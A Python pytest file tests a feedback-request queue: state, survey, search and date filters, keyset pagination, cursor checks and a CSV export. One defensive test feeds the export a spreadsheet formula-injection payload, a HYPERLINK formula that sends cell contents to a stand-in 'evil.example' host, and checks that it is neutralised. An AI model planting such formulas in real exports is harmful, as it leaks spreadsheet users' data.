"""The console queue's data: requests by state, search, survey and send_at window, newest first
in keyset pages; and its CSV export (service and repository, on both engines)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from typing import Any

import pytest
from fastapi import FastAPI

from opensure.api.errors import Errors
from opensure.feedback_requests import service
from opensure.feedback_requests.repository import QueueFilters
from tests.api.helpers import create_request
from tests.conftest import Account
from tests.feedback_requests.helpers import add_survey, insert_request

T0 = dt.datetime(2031, 3, 10, 12, 0, tzinfo=dt.UTC)


def parse(**raw: Any) -> tuple[QueueFilters, Errors]:
    errors = Errors("/app/queue")
    parsed = service.parse_queue_filters(
        errors,
        states=raw.get("states"),
        survey_ids=raw.get("survey_ids"),
        search=raw.get("q"),
        from_time=raw.get("from_time"),
        to_time=raw.get("to_time"),
    )
    return parsed, errors


def filters(**raw: Any) -> QueueFilters:
    parsed, errors = parse(**raw)
    assert not errors, errors.items
    return parsed


def problems(**raw: Any) -> list[tuple[str, str]]:
    return [(e["field"], e["error"]) for e in parse(**raw)[1].items]


async def page_ids(
    app: FastAPI, account: Account, flt: QueueFilters, after: str | None = None, size: int = 50
) -> tuple[list[int], str | None]:
    errors = Errors("/app/queue")
    position = service.parse_cursor(errors, after)
    assert not errors
    async with app.state.direct.read() as session:
        page = await service.queue_page(session, account.id, flt, after=position, size=size)
    return [r.id for r in page.rows], page.next_after


async def all_ids(app: FastAPI, account: Account, flt: QueueFilters) -> list[int]:
    return (await page_ids(app, account, flt))[0]


async def test_newest_send_at_first_ties_by_newest_id(app: FastAPI, account: Account) -> None:
    a = await insert_request(app, account, send_at=T0)
    b = await insert_request(app, account, send_at=T0 + dt.timedelta(hours=1))
    c = await insert_request(app, account, send_at=T0)
    d = await insert_request(app, account, send_at=T0 - dt.timedelta(microseconds=1))
    assert await all_ids(app, account, filters()) == [b, c, a, d]


async def test_states_are_the_apis_values(app: FastAPI, account: Account) -> None:
    pending = await insert_request(app, account, send_at=T0)
    sent = await insert_request(app, account, send_at=T0 + dt.timedelta(minutes=1), state="sent")
    not_sent = await insert_request(
        app,
        account,
        send_at=T0 + dt.timedelta(minutes=2),
        state="not_sent",
        not_sent_reason="Unsubscribed",
    )
    assert await all_ids(app, account, filters(states=["pending"])) == [pending]
    assert await all_ids(app, account, filters(states=["sent"])) == [sent]
    assert await all_ids(app, account, filters(states=["not_sent"])) == [not_sent]
    assert await all_ids(app, account, filters(states=["sent", "not_sent"])) == [not_sent, sent]
    assert await all_ids(app, account, filters()) == [not_sent, sent, pending]


async def test_another_accounts_requests_never_show(
    app: FastAPI, account: Account, other_account: Account
) -> None:
    mine = await insert_request(app, account, reference="T-1")
    await insert_request(app, other_account, reference="T-1")
    assert await all_ids(app, account, filters()) == [mine]
    assert await all_ids(app, account, filters(q="T-1")) == [mine]
    assert await all_ids(app, account, filters(q="kate@example.com")) == [mine]


async def test_keyset_pages_cover_every_row_once_even_as_rows_arrive(
    app: FastAPI, account: Account
) -> None:
    # Ties on send_at across a page boundary: the id orders them.
    moments = [T0, T0, T0, T0 + dt.timedelta(seconds=1), T0 - dt.timedelta(days=1), T0, T0]
    made = [await insert_request(app, account, send_at=m) for m in moments]
    whole = await all_ids(app, account, filters())
    assert sorted(whole) == sorted(made)
    first, cursor = await page_ids(app, account, filters(), size=3)
    assert first == whole[:3] and cursor is not None
    # A newer request arriving between pages does not shift the next page.
    await insert_request(app, account, send_at=T0 + dt.timedelta(days=9))
    second, cursor = await page_ids(app, account, filters(), cursor, size=3)
    assert second == whole[3:6] and cursor is not None
    third, cursor = await page_ids(app, account, filters(), cursor, size=3)
    assert third == whole[6:] and cursor is None


async def test_a_full_last_page_has_no_next_link(app: FastAPI, account: Account) -> None:
    for i in range(4):
        await insert_request(app, account, send_at=T0 + dt.timedelta(minutes=i))
    ids, cursor = await page_ids(app, account, filters(), size=2)
    ids, cursor = await page_ids(app, account, filters(), cursor, size=2)
    assert len(ids) == 2 and cursor is None


async def test_pages_keep_their_filters(app: FastAPI, account: Account) -> None:
    sent = [
        await insert_request(app, account, send_at=T0 + dt.timedelta(minutes=i), state="sent")
        for i in range(5)
    ]
    for i in range(5):
        await insert_request(app, account, send_at=T0 + dt.timedelta(minutes=i, seconds=30))
    flt = filters(states=["sent"])
    first, cursor = await page_ids(app, account, flt, size=2)
    second, cursor = await page_ids(app, account, flt, cursor, size=2)
    third, cursor = await page_ids(app, account, flt, cursor, size=2)
    assert first + second + third == sent[::-1] and cursor is None


@pytest.mark.parametrize("typed", ["Kate.Smith@Example.COM", "  kate.smith@example.com  "])
async def test_search_finds_an_address_as_normalised(
    app: FastAPI, account: Account, typed: str
) -> None:
    found = await insert_request(app, account, email="kate.smith@example.com")
    await insert_request(app, account, email="kate.smith@example.org")
    await insert_request(app, account, email="smith@example.com")
    assert await all_ids(app, account, filters(q=typed)) == [found]


async def test_search_finds_a_unicode_address_as_normalised(app: FastAPI, account: Account) -> None:
    # Stored decomposed (e + combining acute), typed composed and upper case.
    found = await insert_request(app, account, email="re\u0301mi@example.com")
    assert await all_ids(app, account, filters(q="R\u00c9MI@example.com")) == [found]


async def test_search_finds_a_reference_exactly(app: FastAPI, account: Account) -> None:
    found = await insert_request(app, account, reference="TICKET-42")
    await insert_request(app, account, reference="TICKET-420")
    await insert_request(app, account, reference="ticket-42")
    assert await all_ids(app, account, filters(q="TICKET-42")) == [found]
    assert await all_ids(app, account, filters(q="TICKET-4")) == []


async def test_search_combines_with_state_and_pages(app: FastAPI, account: Account) -> None:
    ids = [
        await insert_request(
            app, account, email="a@example.com", send_at=T0 + dt.timedelta(minutes=i)
        )
        for i in range(3)
    ]
    await insert_request(app, account, email="a@example.com", state="sent")
    flt = filters(q="A@example.com", states=["pending"])
    first, cursor = await page_ids(app, account, flt, size=2)
    second, cursor = await page_ids(app, account, flt, cursor, size=2)
    assert first + second == ids[::-1] and cursor is None


async def test_survey_filter(app: FastAPI, account: Account) -> None:
    other_survey = await add_survey(app, account)
    first = await insert_request(app, account, send_at=T0)
    second = await insert_request(app, account, send_at=T0, survey_id=other_survey)
    assert await all_ids(app, account, filters(survey_ids=[str(account.survey_id)])) == [first]
    assert await all_ids(app, account, filters(survey_ids=[str(other_survey)])) == [second]
    both = filters(survey_ids=[str(account.survey_id), str(other_survey)])
    assert await all_ids(app, account, both) == [second, first]


async def test_send_at_window_is_inclusive_at_both_ends(app: FastAPI, account: Account) -> None:
    before = await insert_request(app, account, send_at=T0 - dt.timedelta(microseconds=1))
    start = await insert_request(app, account, send_at=T0)
    end = await insert_request(app, account, send_at=T0 + dt.timedelta(hours=1, microseconds=5))
    after = await insert_request(app, account, send_at=T0 + dt.timedelta(hours=1, seconds=1))
    window = filters(from_time="2031-03-10T12:00:00Z", to_time="2031-03-10T13:00:00Z")
    assert await all_ids(app, account, window) == [end, start]
    assert await all_ids(app, account, filters(from_time="2031-03-10T12:00:00Z")) == [
        after,
        end,
        start,
    ]
    assert await all_ids(app, account, filters(to_time="2031-03-10T12:59:59+01:00")) == [before]


async def test_a_bare_to_date_takes_in_the_whole_day(app: FastAPI, account: Account) -> None:
    late = await insert_request(app, account, send_at=dt.datetime(2031, 3, 10, 23, 59, 59))
    await insert_request(app, account, send_at=dt.datetime(2031, 3, 11, tzinfo=dt.UTC))
    early = await insert_request(app, account, send_at=dt.datetime(2031, 3, 10, tzinfo=dt.UTC))
    await insert_request(app, account, send_at=dt.datetime(2031, 3, 9, 23, 59, 59))
    day = filters(from_time="2031-03-10", to_time="2031-03-10")
    assert await all_ids(app, account, day) == [late, early]


async def test_the_widest_window_there_is(app: FastAPI, account: Account) -> None:
    made = await insert_request(app, account, send_at=T0)
    widest = filters(from_time="0001-01-01", to_time="9999-12-31T23:59:59Z")
    assert await all_ids(app, account, widest) == [made]
    assert await all_ids(app, account, filters(to_time="9999-12-31")) == [made]


@pytest.mark.parametrize(
    ("raw", "expected"),
    [
        ({"states": ["queued"]}, [("states", "invalid_value")]),
        ({"survey_ids": ["x"]}, [("survey_ids", "invalid_value")]),
        ({"from_time": "yesterday"}, [("from_time", "invalid_date")]),
        ({"to_time": "2031-02-30"}, [("to_time", "invalid_date")]),
        (
            {"from_time": "2031-03-11", "to_time": "2031-03-10T00:00:00Z"},
            [("from_time", "invalid_date")],
        ),
        ({"q": "x" * 300}, [("q", "wrong_length")]),
        ({"q": "a\x00b"}, [("q", "invalid_value")]),
    ],
)
def test_bad_filters_are_reported(raw: dict[str, Any], expected: list[tuple[str, str]]) -> None:
    assert problems(**raw) == expected


def test_a_blank_search_is_no_search() -> None:
    assert filters(q="   ").search is None
    assert filters(states=[]).states is None


@pytest.mark.parametrize(
    "raw", ["nonsense", "2031-03-10T12:00:00.000000Z", "2031-03-10T12:00:00Z~1", "~5", "x~0"]
)
def test_a_cursor_not_made_by_the_queue_is_an_error(raw: str) -> None:
    errors = Errors("/app/queue")
    assert service.parse_cursor(errors, raw) is None
    assert [e["field"] for e in errors.items] == ["after"]


# ---- the export ------------------------------------------------------------------------------


async def export(app: FastAPI, account: Account, flt: QueueFilters, batch: int = 1000) -> str:
    chunks = [
        chunk
        async for chunk in service.export_csv(app.state.direct.read, account.id, flt, batch=batch)
    ]
    return "".join(chunks)


async def test_export_columns_are_the_apis_scalar_attributes(account: Account) -> None:
    created = await create_request(account, data=[{"key": "k", "value": "v"}])
    api = (await account.get(f"/feedback_requests/{created['id']}")).json()
    scalars = [k for k, value in api.items() if not isinstance(value, list | dict)]
    assert list(service.EXPORT_COLUMNS) == scalars
    assert "data" in api and "data" not in service.EXPORT_COLUMNS


async def test_export_rows_hold_what_the_api_shows(app: FastAPI, account: Account) -> None:
    made = await insert_request(
        app,
        account,
        send_at=T0,
        first_name="Kate",
        reference="T-1",
        state="sent",
        sent_at=T0 + dt.timedelta(minutes=1),
        delivery_failure="550 mailbox unavailable",
    )
    text = await export(app, account, filters())
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == list(service.EXPORT_COLUMNS)
    api = (await account.get(f"/feedback_requests/{made}")).json()
    expected = ["" if api[c] is None else str(api[c]) for c in service.EXPORT_COLUMNS]
    assert rows[1:] == [expected]
    assert text.endswith("\r\n")


async def test_an_empty_export_is_the_header_row(app: FastAPI, account: Account) -> None:
    text = await export(app, account, filters())
    assert text == ",".join(service.EXPORT_COLUMNS) + "\r\n"


async def test_export_cells_cannot_run_as_formulas(app: FastAPI, account: Account) -> None:
    await insert_request(
        app,
        account,
        first_name='=HYPERLINK("http://evil.example/?"&A1,"x")',
        surname="+1+1",
        reference="-2",
        machine_id="@SUM(A1)",
        not_sent_reason="\tTab",
        state="not_sent",
    )
    rows = list(csv.reader(io.StringIO(await export(app, account, filters()))))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["first_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"x")'
    assert record["surname"] == "'+1+1"
    assert record["reference"] == "'-2"
    assert record["machine_id"] == "'@SUM(A1)"
    assert record["not_sent_reason"] == "'\tTab"


async def test_export_reads_in_batches_and_keeps_the_filters(
    app: FastAPI, account: Account, other_account: Account
) -> None:
    sent = [
        await insert_request(app, account, send_at=T0 + dt.timedelta(seconds=i % 3), state="sent")
        for i in range(7)
    ]
    await insert_request(app, account, send_at=T0)
    await insert_request(app, other_account, send_at=T0, state="sent")
    expected = await all_ids(app, account, filters(states=["sent"]))
    assert sorted(expected) == sorted(sent)
    for batch in (1, 2, 7, 100):
        rows = list(
            csv.reader(io.StringIO(await export(app, account, filters(states=["sent"]), batch)))
        )
        assert [int(r[0]) for r in rows[1:]] == expected, batch


async def test_export_search_and_window(app: FastAPI, account: Account) -> None:
    found = await insert_request(app, account, reference="R-9", send_at=T0)
    await insert_request(app, account, reference="R-9", send_at=T0 + dt.timedelta(days=2))
    await insert_request(app, account, reference="R-8", send_at=T0)
    flt = filters(q="R-9", from_time="2031-03-10", to_time="2031-03-10")
    rows = list(csv.reader(io.StringIO(await export(app, account, flt))))
    assert [int(r[0]) for r in rows[1:]] == [found]
